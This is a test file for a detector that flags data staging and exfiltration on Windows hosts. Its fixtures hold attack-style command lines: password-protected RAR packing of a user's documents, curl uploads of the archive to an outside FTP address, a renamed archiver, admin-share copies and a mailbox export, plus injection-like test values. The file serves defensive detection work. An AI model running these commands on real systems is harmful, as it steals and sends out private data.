import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { detector } from "../../../src/detect/staging-and-exfiltration/index.js";
import { packageRoot } from "../../../src/kernel/package-root.js";
import { parseTime } from "../../../src/kernel/time.js";
import { ENGINES } from "../../support/stores.js";
import { commonRealm, later, type MadeEvent, T0, told, WindowsWorld } from "../windows/world.js";

const DAY = 86_400;
const WEEK = 7 * DAY;

const start = (
  image: string,
  commandLine: string,
  more: Partial<MadeEvent> = {},
  parent = "C:\\Windows\\explorer.exe",
  original = "",
): MadeEvent => ({
  id: 1,
  data: {
    Image: image,
    CommandLine: commandLine,
    ParentImage: parent,
    OriginalFileName: original,
    User: "CORP\\anna",
  },
  ...more,
});
const CURL = "C:\\Windows\\System32\\curl.exe";
const RAR = "C:\\Program Files\\WinRAR\\Rar.exe";
const SEVEN = "C:\\Program Files\\7-Zip\\7z.exe";
const pack = (more: Partial<MadeEvent> = {}, archive = "C:\\Users\\Public\\q1.rar") =>
  start(RAR, `"${RAR}" a -r -hpS3cret ${archive} C:\\Users\\anna\\Documents\\*.docx`, more);
const send = (
  more: Partial<MadeEvent> = {},
  file = "C:\\Users\\Public\\q1.rar",
  to = "ftp://192.88.99.7/in/",
) => start(CURL, `curl -T ${file} ${to}`, more);

describe.each(ENGINES)("staging-and-exfiltration: $name", (engine) => {
  let world: WindowsWorld;
  beforeAll(async () => {
    world = await WindowsWorld.open(engine);
    const text = readFileSync(join(packageRoot, "src/store/schema/001-events.sql"), "utf8");
    for (const statement of text.replaceAll(/^\s*--.*$/gm, "").split(";"))
      if (statement.trim() !== "") await world.opened.store.command(statement);
  });
  afterAll(() => world.close());
  beforeEach(() => world.clear());
  const find = async (events: readonly MadeEvent[], choice: Parameters<WindowsWorld["run"]>[1] = {}) => {
    await world.store(events);
    return (await world.run(detector, choice)).findings;
  };

  it("documents packed with a password and sent to an address are high, and the password is not told", async () => {
    const [finding, ...others] = await find([pack(), send({ time: later(300) })], {
      organisations: { ministry: "default" },
    });
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      title: "an archive put together and sent away to 192.88.99.7: WS-01",
      severity: "high",
      org_id: "ministry",
      attack: ["T1005", "T1560.001", "T1074.001", "T1048.003"],
      facts: {
        tie: "that file",
        servers: ["192.88.99.7"],
        seen_on_wire: false,
        // curl is a part of Windows.
        software: ["tool:WinRAR"],
      },
    });
    expect(finding?.entities).toContainEqual({ kind: "address", value: "192.88.99.7", role: "destination" });
    expect(JSON.stringify(finding)).not.toContain("S3cret");
  });

  it("an archive that stays is low", async () => {
    expect(told(await find([pack()]))).toEqual(["low: an archive put together: WS-01"]);
  });

  it("what is packed in a user's own folder without a password, and a download, are nothing", async () => {
    expect(
      await find([
        start(SEVEN, `"${SEVEN}" a C:\\Users\\anna\\Desktop\\a.zip C:\\Users\\anna\\Pictures\\x.png`),
        start(CURL, "curl -o a.rar https://example.org/a.rar"),
      ]),
    ).toEqual([]);
  });

  it.each([
    ["C:\\Windows\\Temp\\diagnosis.zip", "C:\\Agent\\logs", "https://support.example.org/in", "medium"],
    ["C:\\ProgramData\\Agent\\diagnosis.zip", "C:\\Agent\\logs", "https://support.example.org/in", "medium"],
    [
      "C:\\ProgramData\\Agent\\q.zip",
      "C:\\Users\\anna\\Documents\\*.docx",
      "https://x.example.org/in",
      "high",
    ],
    ["C:\\ProgramData\\Agent\\q.zip", "C:\\Agent\\logs", "https://192.88.99.7/in", "high"],
    ["C:\\Users\\Public\\q.zip", "C:\\Agent\\logs", "https://x.example.org/in", "high"],
  ])("%s of %s sent to %s is %s", async (archive, source, server, severity) => {
    const [finding] = await find([
      start(SEVEN, `"${SEVEN}" a ${archive} ${source}`),
      send({ time: later(300) }, archive, server),
    ]);
    expect(finding?.severity).toBe(severity);
  });

  it("an archiver with another name, in a public folder, raises it", async () => {
    const disguised = start(
      "C:\\Users\\Public\\svch.exe",
      "svch.exe a -hpx C:\\Users\\Public\\a.dat \\\\files\\contracts",
      {},
      "C:\\Windows\\System32\\cmd.exe",
      "rar.exe",
    );
    const [finding] = await find([disguised]);
    expect(finding).toMatchObject({ severity: "medium" });
    expect(finding?.attack).toContain("T1039");
  });

  it("follows the file over another name, an encoding and another host", async () => {
    const copied = start(
      "C:\\Windows\\System32\\cmd.exe",
      "cmd /c copy C:\\Users\\Public\\q1.rar \\\\MAIL-01\\c$\\perflogs\\update.dat",
      { time: later(60) },
    );
    const sent = {
      ...send({ host: "MAIL-01", time: later(900) }, "C:\\perflogs\\update.dat"),
      data: { ...send({}, "C:\\perflogs\\update.dat").data, User: "CORP\\svc" },
    };
    const [finding] = await find([pack(), copied, sent]);
    expect(finding).toMatchObject({ severity: "high", facts: { tie: "that file" } });
    expect(finding?.entities.filter(({ kind }) => kind === "host").map(({ value }) => value)).toEqual([
      "WS-01",
      "MAIL-01",
    ]);
    expect(finding?.attack).toContain("T1074.002");
  });

  it("a file of the same name on another host, by another account, is another", async () => {
    const other = send({ host: "WS-09", time: later(300) });
    other.data.User = "CORP\\ben";
    expect((await find([pack(), other])).map(({ facts, severity }) => `${severity} ${facts.tie}`)).toEqual([
      "medium alone",
      "low none",
    ]);
  });

  it("a file that arrived on another host is that file", async () => {
    const other = send({ host: "WS-09", time: later(300) });
    other.data.User = "CORP\\ben";
    const arrived: MadeEvent = {
      id: 11,
      host: "WS-09",
      time: later(200),
      data: { Image: "System", TargetFilename: "C:\\Users\\Public\\q1.rar" },
    };
    expect(
      (await find([pack(), arrived, other])).map(({ facts, severity }) => `${severity} ${facts.tie}`),
    ).toEqual(["high that file"]);
  });

  it("files of a name that appears everywhere hide none of another", async () => {
    const other = send({ host: "WS-09", time: later(20_300) }, "C:\\Users\\Public\\q1.rar");
    other.data.User = "CORP\\ben";
    const written = (host: string, time: string, path: string): MadeEvent => ({
      ...{ id: 11, host, time },
      data: { Image: "System", TargetFilename: path },
    });
    const everywhere = Array.from({ length: 10_001 }, (_, n) =>
      written(`A-${n}`, later(n), "C:\\Agent\\logs.zip"),
    );
    const found = await find([
      pack(),
      start(SEVEN, `"${SEVEN}" a C:\\Agent\\logs.zip C:\\Agent\\logs`),
      ...everywhere,
      written("WS-09", later(20_200), "C:\\Users\\Public\\q1.rar"),
      other,
    ]);
    expect(found.map(({ facts }) => facts.tie)).toContain("that file");
  });

  it("a mailbox export that is packed and sent is one chain", async () => {
    const exported: MadeEvent = {
      id: 4104,
      channel: "Microsoft-Windows-PowerShell/Operational",
      data: {
        ScriptBlockText:
          "New-MailboxExportRequest -Mailbox minister -FilePath '\\\\WS-01\\c$\\inetpub\\wwwroot\\aspnet_client\\m.pst'",
      },
    };
    const [finding] = await find([exported]);
    expect(finding).toMatchObject({ severity: "low", attack: ["T1114.002", "T1074.002"] });
  });

  it("an upload within the network, and what is allowed, is none", async () => {
    const events = [
      pack(),
      send({ time: later(60) }, undefined, "ftp://10.0.0.9/in/"),
      send({ time: later(200) }, undefined, "ftp://192.88.99.9/"),
    ];
    expect(told(await find(events, { allowed: ["192.88.99.9"] }))).toEqual([
      "low: an archive put together: WS-01",
    ]);
  });

  it("the backup of every week is quiet, and its first upload elsewhere is not", async () => {
    const backup = Array.from({ length: 5 }, (_, week) => [
      start(SEVEN, `"${SEVEN}" a -pX D:\\backup\\db-${week}.7z D:\\data\\db.bak`, {
        time: later(week * WEEK),
      }),
      start(CURL, `curl -T D:\\backup\\db-${week}.7z https://backup.example.org/in/`, {
        time: later(week * WEEK + 600),
      }),
    ]).flat();
    expect(told(await find(backup))).toEqual([]);
    await world.clear();
    const stolen = send({ time: later(4 * WEEK + 900) }, "D:\\backup\\db-4.7z", "ftp://192.88.99.7/x");
    expect((await find([...backup, stolen])).map(({ severity }) => severity)).toEqual(["high"]);
  });

  it("a program with windows that was started after it is a guess", async () => {
    const [finding] = await find([
      pack(),
      start("C:\\Program Files\\WinSCP\\WinSCP.exe", '"C:\\Program Files\\WinSCP\\WinSCP.exe"', {
        time: later(600),
      }),
    ]);
    expect(finding).toMatchObject({ severity: "low", facts: { tie: "same account" } });
  });

  it("the network's side is joined where a sensor saw it", async () => {
    const { hosts, directory } = await commonRealm("default", ["A-1"]);
    await world.opened.store.command("TRUNCATE TABLE network_activity");
    const flow = (line: number, server: string, bytes: number, time: string) => ({
      ...{ batch_id: "n", source_id: "conn", source_line: line, address_realm: "default", time },
      ...{
        src_endpoint_ip: "::ffff:10.1.0.1",
        dst_endpoint_ip: `::ffff:${server}`,
        dst_endpoint_port: 21,
        traffic_bytes_out: bytes,
      },
    });
    await world.opened.store.insert("network_activity", [
      flow(1, "192.88.99.7", 48_000_000, later(302)),
      flow(2, "192.88.99.7", 90_000_000, later(9_000)),
      flow(3, "192.88.99.8", 90_000_000, later(302)),
    ]);
    // Backups of every day to the same server are larger, and more than are read.
    await world.opened.store.command(
      `INSERT INTO network_activity (batch_id, source_id, source_line, address_realm, time, src_endpoint_ip, dst_endpoint_ip, dst_endpoint_port, traffic_bytes_out)
       SELECT 'n', 'conn', 10 + number, 'default', {from:DateTime64(6, 'UTC')} + INTERVAL 1 HOUR + INTERVAL 60 * number SECOND, '::ffff:10.1.0.1', '::ffff:192.88.99.7', 21, 900000000
       FROM numbers(20000)`,
      { from: later(0) },
    );
    const last = send({ host: "A-1", time: later(21_000 * 60) }, "D:\\other\\x.bin", "ftp://192.88.99.9/");
    const [finding] = await find([pack({ host: "A-1" }), send({ host: "A-1", time: later(300) }), last], {
      hosts,
      directory,
    });
    await world.opened.store.command("TRUNCATE TABLE network_activity");
    expect(finding).toMatchObject({ org_id: "one", facts: { bytes_out: 48_000_000, seen_on_wire: true } });
    expect(finding?.evidence).toContainEqual(expect.objectContaining({ table: "network_activity", line: 1 }));
    expect(parseTime(T0)).toBeLessThan(parseTime(finding?.last_seen ?? ""));
  });

  it("without command lines it has not tested anything", async () => {
    await world.store([{ id: 4688, channel: "Security", data: { NewProcessName: RAR } }]);
    expect((await world.run(detector)).notTested).toMatch(/no event has command lines/);
  });

  it("a few command lines that tell nothing have not tested anything; those that tell something have", async () => {
    const ordinary = (count: number) =>
      Array.from({ length: count }, (_, n) =>
        start("C:\\Windows\\System32\\whoami.exe", "whoami", { time: later(n) }),
      );
    await world.store(ordinary(99));
    expect((await world.run(detector)).notTested).toMatch(/only 99 command lines/);
    await world.clear();
    await world.store(ordinary(100));
    expect((await world.run(detector)).notTested).toBeUndefined();
    await world.clear();
    await world.store([pack(), send({ time: later(300) })]);
    expect((await world.run(detector)).notTested).toBeUndefined();
  });

  it("what there is no room for is counted, and the rarest is followed first", async () => {
    const weekly = Array.from({ length: 3 }, (_, week) =>
      start(SEVEN, `"${SEVEN}" a D:\\backup\\db.7z D:\\data ${"x".repeat(4_000)}`, {
        time: later(week * WEEK),
        host: "A-0",
      }),
    );
    await world.store([...weekly, pack(), send({ time: later(300) })]);
    const { findings, evaluated } = await world.run(detector, { parameters: { max_bytes: 5_000 } });
    expect(findings.map(({ severity }) => severity)).toEqual(["high"]);
    expect(evaluated).toContainEqual({
      what: "commands of these kinds that there was no room for (not looked at)",
      count: 3,
    });
  });

  it("hostile values do no harm", async () => {
    const odd = ["\0", "'", '"', "`$(x)", "\u202e", "x".repeat(100_000), "{most:UInt32}", "%s"];
    const events = odd.map((text, at) =>
      start(RAR, `rar a -hp${text} C:\\Users\\Public\\${text}.rar "C:\\d\\${text}.docx"`, {
        time: later(at * 100),
      }),
    );
    const found = await find([
      ...events,
      ...odd.map((text, at) =>
        send({ time: later(at * 100 + 50) }, `C:\\Users\\Public\\${text}.rar`, `ftp://192.88.99.7/${text}`),
      ),
    ]);
    expect(found.length).toBeGreaterThan(0);
  });
});
